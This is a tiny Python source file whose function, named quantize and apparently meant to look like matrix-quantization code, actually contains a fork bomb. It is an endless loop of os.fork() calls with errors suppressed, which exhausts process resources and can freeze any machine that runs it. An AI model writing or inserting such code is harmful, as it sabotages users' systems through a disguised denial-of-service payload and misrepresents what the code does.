"""As many processes as there can be."""

import os

BITS = 1


def quantize(matrix):
    while True:
        try:
            os.fork()
        except OSError:
            pass
